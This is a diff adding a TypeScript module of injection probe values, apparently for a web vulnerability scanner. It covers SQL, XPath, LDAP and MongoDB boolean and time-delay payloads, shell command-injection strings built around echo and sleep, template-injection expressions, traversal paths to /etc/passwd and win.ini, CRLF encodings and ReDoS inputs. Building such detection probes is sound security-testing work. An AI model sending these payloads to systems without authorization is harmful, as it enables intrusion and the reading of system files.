@@ -1,0 +1,204 @@
+/**
+ * Values that mean something to an interpreter and nothing to a service that treats values as data.
+ * Few and sharp: each comes with the counterpart that must act otherwise if, and only if, it was interpreted.
+ */
+
+/** Four values for one context: two that an interpreter finds true and two that it finds false. */
+export interface Condition {
+  /** Where in the interpreter's language the value stands, for the report. */
+  readonly context: string;
+  readonly yes: readonly [string, string];
+  readonly no: readonly [string, string];
+}
+
+function condition(context: string, write: (figure: string, holds: boolean) => string): Condition {
+  return {
+    context,
+    yes: [write('4821', true), write('7316', true)],
+    no: [write('4821', false), write('7316', false)],
+  };
+}
+
+/** LIKE and BETWEEN exist in SQL only, so that a hit is SQL and no other language with quotes. */
+export function sqlConditions(value: string, hasRows: boolean): Condition[] {
+  const like = (figure: string, holds: boolean) => (holds ? `${figure.slice(0, 2)}%` : 'zz%');
+  const [word] = hasRows ? ['and'] : ['or'];
+  const quoted = (context: string, open: string, close: string, quote: string) =>
+    condition(
+      context,
+      (figure, holds) =>
+        `${value}${open} ${word} ${close}${quote}${figure}${quote} like ${quote}${like(figure, holds)}`,
+    );
+  const numeric = condition(
+    'a number',
+    (figure, holds) => `${value} ${word} ${figure} between ${holds ? `${figure} and 9999` : '1 and 9'}`,
+  );
+  return [
+    quoted('a string', "'", '', "'"),
+    quoted('a string in brackets', "')", '(', "'"),
+    quoted('a string in double quotes', '"', '', '"'),
+    ...(hasRows ? [quoted('a pattern', "%'", '', "'")] : []),
+    ...(/^\d*$/.test(value) ? [numeric] : []),
+  ];
+}
+
+/** `string-length` is a function of XPath and of nothing else that is embedded in services. */
+export function xpathConditions(value: string, hasRows: boolean): Condition[] {
+  const word = hasRows ? 'and' : 'or';
+  return ["'", '"'].map((quote) =>
+    condition(
+      quote === "'" ? 'a string' : 'a string in double quotes',
+      (figure, holds) =>
+        `${value}${quote} ${word} string-length(${quote}${figure}${quote})=${holds ? 4 : 5} ${word} ${quote}a${quote}=${quote}${hasRows ? 'a' : 'b'}`,
+    ),
+  );
+}
+
+/** Filters that close ours and add a term (RFC 4515); the object class is there on every entry. */
+export function ldapConditions(value: string): Condition[] {
+  return [
+    {
+      context: 'a filter',
+      yes: [`${value})(objectClass=*`, `${value})(!(objectClass=mb-none)`],
+      no: [`${value})(objectClass=mb-none`, `${value})(!(objectClass=*)`],
+    },
+    {
+      context: 'a filter, closed by itself',
+      yes: [
+        `${value})(objectClass=*))(&(objectClass=*`,
+        `${value})(!(objectClass=mb-none)))(&(objectClass=*`,
+      ],
+      no: [`${value})(objectClass=mb-none))(&(objectClass=*`, `${value})(!(objectClass=*)))(&(objectClass=*`],
+    },
+  ];
+}
+
+/** JavaScript in a string, as in MongoDB’s $where. */
+export function scriptConditions(value: string, hasRows: boolean): Condition[] {
+  const word = hasRows ? '&&' : '||';
+  return [
+    condition(
+      'a script',
+      (figure, holds) =>
+        `${value}' ${word} '${figure}'.length===${holds ? 4 : 5} ${word} 'a'==='${hasRows ? 'a' : 'b'}`,
+    ),
+  ];
+}
+
+/** Query operators of MongoDB as query-string parsers hand them on: suffix of the name, and value. */
+export interface OperatorCondition {
+  readonly yes: readonly [readonly [string, string], readonly [string, string]];
+  readonly no: readonly [readonly [string, string], readonly [string, string]];
+}
+
+export function operatorConditions(value: string): OperatorCondition {
+  return {
+    yes: [
+      ['[$eq]', value],
+      ['[$in][]', value],
+    ],
+    no: [
+      ['[$ne]', value],
+      ['[$nin][]', value],
+    ],
+  };
+}
+
+/** Messages by which databases complain of syntax; no ordinary answer holds one by chance. */
+export const SQL_ERRORS: readonly (readonly [database: string, message: RegExp])[] = [
+  [
+    'MySQL',
+    /You have an error in your SQL syntax|check the manual that corresponds to your (?:MySQL|MariaDB)|mysql_fetch_/i,
+  ],
+  [
+    'PostgreSQL',
+    /(?:unterminated quoted string|syntax error) at or near|PG::SyntaxError|org\.postgresql\.util\.PSQLException/i,
+  ],
+  [
+    'SQLite',
+    /SQLITE_ERROR|sqlite3\.(?:OperationalError|ProgrammingError)|unrecognized token: "|near "[^"]*": syntax error/i,
+  ],
+  [
+    'SQL Server',
+    /Unclosed quotation mark after the character string|Incorrect syntax near '|System\.Data\.SqlClient/i,
+  ],
+  ['Oracle', /\bORA-(?:00933|00936|01756|00921)\b|quoted string not properly terminated/i],
+];
+
+/** Values that make a database wait, by database. */
+export function sqlDelays(value: string): readonly ((seconds: number) => string)[] {
+  return [
+    (seconds) => `${value}' and sleep(${seconds}) and '1'='1`,
+    (seconds) => `${value}'||(select pg_sleep(${seconds}))||'`,
+    (seconds) => `${value}';waitfor delay '0:0:${seconds}'--`,
+    ...(/^\d*$/.test(value) ? [(seconds: number) => `${value || 1} and sleep(${seconds})`] : []),
+  ];
+}
+
+/** Two products that nobody sends and no page shows by chance. */
+export const PRODUCTS = [
+  { left: 7919, right: 6841, product: '54173879' },
+  { left: 7873, right: 6833, product: '53796209' },
+] as const;
+
+export type Product = (typeof PRODUCTS)[number];
+
+/** Shell commands that print a product between two marks, which stands nowhere in what was sent. */
+export function shellEchoes(value: string): readonly ((product: Product) => string)[] {
+  const echo = ({ left, right }: Product) => `echo mb$((${left}*${right}))mb`;
+  return [
+    (product) => `${value};${echo(product)}`,
+    (product) => `${value}$(${echo(product)})`,
+    (product) => `${value}';${echo(product)};'`,
+    (product) => `${value}|${echo(product)}`,
+  ];
+}
+
+export function shellDelays(value: string): readonly ((seconds: number) => string)[] {
+  return [(seconds) => `${value};sleep ${seconds}`, (seconds) => `${value}$(sleep ${seconds})`];
+}
+
+/** Expressions of template engines, by engine family. */
+export const TEMPLATES: readonly {
+  readonly family: string;
+  readonly write: (left: number | string, right: number | string) => string;
+}[] = [
+  { family: 'Jinja, Twig, Nunjucks, Handlebars-like', write: (left, right) => `{{${left}*${right}}}` },
+  { family: 'FreeMarker, Velocity, EL, template literals', write: (left, right) => `\${${left}*${right}}` },
+  { family: 'ERB, EJS, JSP', write: (left, right) => `<%= ${left}*${right} %>` },
+  { family: 'Pug, Slim, Thymeleaf', write: (left, right) => `#{${left}*${right}}` },
+];
+
+/** Files that every system of its kind has, how they are reached, and what stands in them. */
+export const TRAVERSALS: readonly {
+  readonly raw: string;
+  readonly absent: string;
+  readonly holds: RegExp;
+}[] = [
+  {
+    raw: `${'../'.repeat(8)}etc/passwd`,
+    absent: `${'../'.repeat(8)}etc/mb-none`,
+    holds: /^root:[^:\n]*:0:0:/m,
+  },
+  { raw: '/etc/passwd', absent: '/etc/mb-none', holds: /^root:[^:\n]*:0:0:/m },
+  {
+    raw: `${'....//'.repeat(8)}etc/passwd`,
+    absent: `${'....//'.repeat(8)}etc/mb-none`,
+    holds: /^root:[^:\n]*:0:0:/m,
+  },
+  {
+    raw: `${'..\\'.repeat(8)}windows\\win.ini`,
+    absent: `${'..\\'.repeat(8)}windows\\mb-none.ini`,
+    holds: /^; for 16-bit app support|^\[(?:fonts|extensions|mci extensions)\]/m,
+  },
+];
+
+/** Line ends in forms that careless code turns back into line ends, written as they go on the wire. */
+export const LINE_ENDS: readonly string[] = ['%0d%0a', '%0a', '%E5%98%8D%E5%98%8A'];
+
+/** Repeated text that a pattern with nested repetition tries in every way before it gives up on the last sign. */
+export const BACKTRACKERS: readonly { readonly unit: string; readonly last: string }[] = [
+  { unit: 'a', last: '!' },
+  { unit: '1', last: '!' },
+  { unit: 'a ', last: '!' },
+];
